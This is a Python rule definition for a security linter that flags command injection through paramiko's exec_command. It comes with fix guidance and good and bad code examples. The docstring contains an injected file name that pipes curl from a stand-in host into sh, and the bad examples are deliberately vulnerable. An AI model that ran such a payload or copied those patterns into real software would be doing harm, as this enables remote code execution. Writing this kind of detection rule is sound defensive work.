"""A command sent over SSH is run by a shell on the other machine.

## Why it matters
There is no list form: the server hands the whole string to the user's shell.  A file name such as `x; curl evil.example | sh`
that ends up in it is a command, run with the rights of the SSH user.  Assistants build the string with an f-string, as
they would at a prompt.

## How to fix it
For files use SFTP, which takes names as names:

    with client.open_sftp() as sftp:
        sftp.remove(path)

Where a command is needed, quote every part that you didn't write yourself:

    client.exec_command(f"tar xf {shlex.quote(archive)}")

`shlex.quote` suits POSIX shells only, and a part that begins with `-` is still read as an option.

## When it is fine
For a constant command, or one whose every variable part is quoted or checked: Bandit reports every `exec_command`.

## References
- [Paramiko: SFTPClient](https://docs.paramiko.org/en/stable/api/sftp.html)
- [Python: shlex.quote](https://docs.python.org/3/library/shlex.html#shlex.quote)
- [Bandit: B601](https://bandit.readthedocs.io/en/latest/plugins/b601_paramiko_calls.html)
"""

from __future__ import annotations

from vetline.core.cwe import Cwe
from vetline.core.severity import Confidence, Severity
from vetline.rules.base import Example, Rule
from vetline.rules.commands import matters_for_shell

RULE = Rule(
    id="B601",
    name="paramiko-calls",
    cwe=Cwe(78),
    severity=Severity.MEDIUM,
    confidence=Confidence.MEDIUM,
    message="A shell on the other machine runs this: quote its variable parts with `shlex.quote`, or use SFTP.",
    bad=(
        Example('import paramiko\n\nclient = paramiko.SSHClient()\nclient.exec_command(f"rm -r {path}")\n'),
        Example(
            "from paramiko import SSHClient\n\n\n"
            "def tail(client: SSHClient, name: str) -> bytes:\n"
            '    _, output, _ = client.exec_command("tail /var/log/" + name)\n'
            "    return output.read()\n"
        ),
    ),
    good=(
        "import paramiko\n\nclient = paramiko.SSHClient()\nwith client.open_sftp() as sftp:\n    sftp.remove(path)\n",
        (
            "from paramiko import SSHClient\n\n\n"
            "def read(client: SSHClient, name: str) -> bytes:\n"
            '    with client.open_sftp() as sftp, sftp.open(name, "rb") as file:\n'
            "        return file.read()\n"
        ),
    ),
    why_no_fix="Which parts come from outside, and which are meant for the shell, can't be seen in the string.",
    matters=matters_for_shell,
)
